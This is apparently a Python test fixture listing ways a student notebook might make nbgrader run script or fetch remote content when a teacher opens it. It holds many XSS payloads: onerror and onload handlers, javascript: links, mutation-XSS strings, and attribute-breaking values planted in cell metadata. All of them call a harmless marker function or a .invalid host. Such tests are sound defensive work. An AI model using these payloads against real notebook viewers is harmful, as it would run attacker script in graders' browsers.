"""What a student can put into a notebook to have something run or fetched where somebody else opens it.

Each case calls ``ran("its number")`` or asks for an address with ``fetched-its number`` in it, if it can,
and has words that its reader must still see.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from nbformat import NotebookNode, from_dict

ELSEWHERE = "http://elsewhere.invalid/fetched"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
RAN = "ran('it')"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload=\"{RAN}\"><script>{RAN}</script><image href='{ELSEWHERE}'/><circle r='5'/></svg>"


@dataclass(frozen=True)
class Case:
    """One way of trying.

    Parameters
    ----------
    name : what is tried
    cells : of the notebook, as JSON has them
    seen : what the reader still sees
    bites : whether it runs or fetches on nbgrader's own page, so that a test of ours could fail
    clicked : what has to be pressed for it
    leaves : whether it leads away from the page, so that nothing after it can be tried there
    metadata : of the notebook
    """

    name: str
    cells: tuple[Mapping[str, Any], ...]
    seen: str = ""
    bites: bool = True
    clicked: str = ""
    leaves: bool = False
    metadata: Mapping[str, Any] = field(default_factory=dict)


def _code(*outputs: Mapping[str, Any], source: str = "1", **more: Any) -> dict[str, Any]:
    return {"cell_type": "code", "id": "c", "source": source, "metadata": {}, "execution_count": 1, "outputs": list(outputs), **more}  # fmt: skip


def _text(source: str, **more: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "id": "m", "source": source, "metadata": {}, **more}


def _display(data: Mapping[str, Any], metadata: Mapping[str, Any] | None = None) -> dict[str, Any]:
    return {"output_type": "display_data", "data": dict(data), "metadata": dict(metadata or {})}


def _shown(html: str) -> tuple[dict[str, Any], ...]:
    """HTML as an output, and as it stands in an answer in Markdown."""
    return _code(_display({"text/html": html})), _text(html)


#: HTML that is tried both as an output and in a text: what it is, itself, what is pressed, whether it bites.
HTML = {
    "script": f"<p>words of script</p><script>{RAN}</script>",
    "a script from elsewhere": f"<p>words of a script from elsewhere</p><script src='{ELSEWHERE}'></script>",
    "a picture that is not there": f"<p>words of a picture that is not there</p><img src=x onerror=\"{RAN}\">",
    "a picture from elsewhere": f"<p>words of a picture from elsewhere</p><img src='{ELSEWHERE}' srcset='{ELSEWHERE}2 2x'>",
    "a drawing in the page": f"<p>words of a drawing in the page</p>{SVG}",
    "a frame of its own": f"<p>words of a frame of its own</p><iframe srcdoc=\"<script>{RAN}</script>\"></iframe>",
    "a frame from elsewhere": f"<p>words of a frame from elsewhere</p><iframe src='{ELSEWHERE}'></iframe>",
    "a style that fetches": f"<p>words of a style that fetches</p><style>@import url({ELSEWHERE}); body {{ background: url({ELSEWHERE}) }}</style>",
    "a style of one element": f"<p style='background: url({ELSEWHERE}); color: red'>words of a style of one element</p>",
    "another page at once": f"<p>words of another page at once</p><meta http-equiv=refresh content='0; url={ELSEWHERE}'>",
    "another base": f"<p>words of another base</p><base href='{ELSEWHERE}/'><img src=a.png>",
    "a style sheet": f"<p>words of a style sheet</p><link rel=stylesheet href='{ELSEWHERE}'>",
    "an object": f"<p>words of an object</p><object data='{ELSEWHERE}'></object><embed src='{ELSEWHERE}'>",
    "a field in focus": f"<p>words of a field in focus</p><input autofocus onfocus=\"{RAN}\">",
    "a fold that opens": f"<details open ontoggle=\"{RAN}\"><summary>words of a fold that opens</summary></details>",
    "a film": f"<p>words of a film</p><video src='{ELSEWHERE}' onerror=\"{RAN}\"></video><audio src='{ELSEWHERE}'></audio>",
    "a style that ends a comment": f'<p>words of a style that ends a comment</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RAN}&gt;" src=x onerror="{RAN}">',
    "what is read twice": f'<p>words of what is read twice</p><noscript><p title="</noscript><img src=x onerror={RAN}>"></noscript><img src=x onerror="{RAN}">',
    "an animation": f"<p>words of an animation</p><style>@keyframes k{{}}</style><b style='animation: k 1s' onanimationstart=\"{RAN}\">b</b>",
}  # fmt: skip
PRESSED = {
    "a link that is a script": f'<p>words of a link that is a script</p><a href="javascript:{RAN}">press script</a>',
    "a link that hides it": f'<p>words of a link that hides it</p><a href=" java\nscript:{RAN}">press hidden</a>',
    "a form": f"<p>words of a form</p><form action='{ELSEWHERE}'><button>press form</button></form>",
    "a button": f'<p>words of a button</p><button onclick="{RAN}">press button</button>',
    "a link that is a page": "<p>words of a link that is a page</p><a href='data:text/html,<p>hello'>press page</a>",
    "a link into the server": "<p>words of a link into the server</p><a href='/fetched?path=submitted'>press server</a>",
}
#: Which of them lead away from the page, and which no longer do anything in today's browsers or from a file.
LEAVE = ("another page at once", "another base", "a form", "a link into the server")
TAME = ("a link that is a page", "a link into the server")
_STATE = {
    "application/vnd.jupyter.widget-state+json": {
        "version_major": 2,
        "version_minor": 0,
        "state": {
            "layout": {
                "model_module": "@jupyter-widgets/base", "model_module_version": "2.0.0",
                "model_name": "LayoutModel", "state": {},
            },
            "one": {
                "model_module": "anywidget", "model_module_version": "~0.11.*", "model_name": "AnyModel",
                "state": {
                    "_esm": f"export default {{ initialize() {{ {RAN} }} }}", "_anywidget_id": "one",
                    "_model_module": "anywidget", "_model_name": "AnyModel", "_model_module_version": "~0.11.*",
                    "_view_module": "anywidget", "_view_name": "AnyView", "_view_module_version": "~0.11.*",
                    "layout": "IPY_MODEL_layout", "_view_count": None, "_dom_classes": [],
                },
            },
            "broken": {"text": f"</script><script>{RAN}</script>"},
        },
    }
}  # fmt: skip
_BREAKS = f'"><img src=x onerror="{RAN}">'
_SCRIPT = f"{RAN}//</script><script>{RAN}</script>"
_GRADED = {
    "schema_version": 3,
    "grade": True,
    "solution": True,
    "locked": False,
    "task": False,
    "points": 1,
    "score": 1,
}

CASES = [
    *(
        Case(name, _shown(html), f"words of {name}", leaves=name in LEAVE)
        for name, html in HTML.items()
    ),
    *(
        Case(name, _shown(html), f"words of {name}", name not in TAME, html[html.index("press "):].split("<")[0], name in LEAVE)
        for name, html in PRESSED.items()
    ),
    Case("Javascript()", (_code(_display({"application/javascript": _SCRIPT, "text/plain": "words of Javascript()"})),), "words of Javascript()"),
    Case("nothing but Javascript()", (_code(_display({"application/javascript": _SCRIPT})),), "(application/javascript)"),
    Case("a drawing", (_code(_display({"image/svg+xml": SVG, "text/plain": "-"})),), bites=False),
    Case("a frame for an output", (_code(_display({"text/html": f"words of a frame for an output<script>{RAN}</script>"}, {"text/html": {"isolated": True}})),), "words of a frame for an output"),
    Case("Markdown as an output", (_code(_display({"text/markdown": f"**words of Markdown** <img src=x onerror=\"{RAN}\">"})),), "words of Markdown"),
    Case("a link in Markdown", (_text(f"[press Markdown](javascript:{RAN})\n\nwords of a link in Markdown"),), "words of a link in Markdown", clicked="press Markdown"),
    Case("a picture in Markdown", (_text(f"![words of a picture in Markdown]({ELSEWHERE})"),)),
    Case("a diagram", (_text(f"words of a diagram\n\n```mermaid\n</pre><img src=x onerror=\"{RAN}\">\n```"),), "words of a diagram"),
    Case("code that is coloured", (_text(f"```python\nx = '<img src=x onerror=\"{RAN}\">'\n```"),), f"x = '<img src=x onerror=\"{RAN}\">'", bites=False),
    Case("a formula", (_text(f"$\\href{{javascript:{RAN}}}{{x}}$ words of a formula"),), "words of a formula", bites=False),
    Case("a formula with HTML", (_text(f"$$\n<img src=x onerror=\"{RAN}\">\n$$ words of a formula with HTML"),), f"<img src=x onerror=\"{RAN}\">", bites=False),
    Case("LaTeX", (_code(_display({"text/latex": f"$<img src=x onerror=\"{RAN}\">$ words of LaTeX"})),), "words of LaTeX", bites=False),
    Case("printed HTML", (_code({"output_type": "stream", "name": "stdout", "text": f"words of print <script>{RAN}</script>"}),), f"words of print <script>{RAN}</script>", bites=False),
    Case("a value", (_code(_display({"text/plain": f"words of a value <script>{RAN}</script>"})),), f"words of a value <script>{RAN}</script>", bites=False),
    Case(
        "an error", (_code({"output_type": "error", "ename": f"<script>{RAN}</script>", "evalue": "", "traceback": [f"\x1b[31mwords of an error\x1b[0m <script>{RAN}</script>\x1b]8;;javascript:{RAN}\x07"]}),),
        f"words of an error <script>{RAN}</script>", bites=False,
    ),
    Case("what a picture is called", (_code(_display({"image/png": PNG}, {"image/png": {"alt": _BREAKS, "width": _BREAKS, "height": "1 onload=" + RAN}})),), bites=False),
    Case("a picture that is none", (_code(_display({"image/png": _BREAKS, "text/plain": "words of a picture that is none"})),), "words of a picture that is none", bites=False),
    Case("the tags of a cell", (_code(source="'words of tags'", metadata={"tags": [_BREAKS]}),), "words of tags", bites=False),
    Case("the name of an answer", (_text("words of the name of an answer", metadata={"nbgrader": {**_GRADED, "grade_id": _BREAKS}}),), "words of the name of an answer"),
    Case("a comment that is not the teacher's", (_text("words of a comment", metadata={"nbgrader": {**_GRADED, "grade_id": "own", "comment": f"<img src=x onerror=\"{RAN}\">"}}),), "words of a comment"),
    Case("a cell that is no code", ({"cell_type": "raw", "id": "r", "source": f"words of raw <img src=x onerror=\"{RAN}\">", "metadata": {"raw_mimetype": "text/html"}},), "words of raw", bites=False),
    Case("a widget", (_code(_display({"application/vnd.jupyter.widget-view+json": {"model_id": "broken", "x": f"</script><script>{RAN}</script>"}, "text/plain": "words of a widget"})),), "words of a widget", bites=False, metadata={"widgets": _STATE}),
    Case("an attachment", (_text("words of an attachment ![a](attachment:a.svg) ![b](attachment:b)", attachments={"a.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()}, "b": {_BREAKS: _BREAKS}}),), "words of an attachment", bites=False),
    Case("an attachment that is not there", (_text("words of what is not there ![a](attachment:a.png)"),), "words of what is not there", bites=False),
    Case("a picture of the student's own", (_text("words of a file ![a](own.svg)"),), "words of a file", bites=False),
    Case("the language of the notebook", (_code(source="'words of a language'"),), "words of a language", bites=False, metadata={"language_info": {"name": _BREAKS, "pygments_lexer": _BREAKS}, "title": _BREAKS}),
]  # fmt: skip


def files() -> dict[str, str]:
    """What lies beside the notebook."""
    return {"own.svg": SVG, "page.html": f"<p>words of a page</p><script>{RAN}</script>", "script.js": RAN}


def seen(case: Case) -> str:
    """What the reader of a case still sees."""
    return case.seen.replace("ran('it')", f"ran('{CASES.index(case)}')")


def cells(case: Case) -> list[NotebookNode]:
    """The cells of a case, each with an id of its own unless that is what is tried."""
    number = str(CASES.index(case))
    text = json.dumps(case.cells).replace("ran('it')", f"ran('{number}')")
    made = json.loads(text.replace("/fetched", f"/fetched-{number}"))
    for cell in made:
        if len(cell["id"]) == 1:
            cell["id"] += number
    return [from_dict(cell) for cell in made]


def write_beside(notebook: Path) -> None:
    """Put the files beside a notebook."""
    for name, content in files().items():
        (notebook.parent / name).write_text(content, encoding="utf-8")
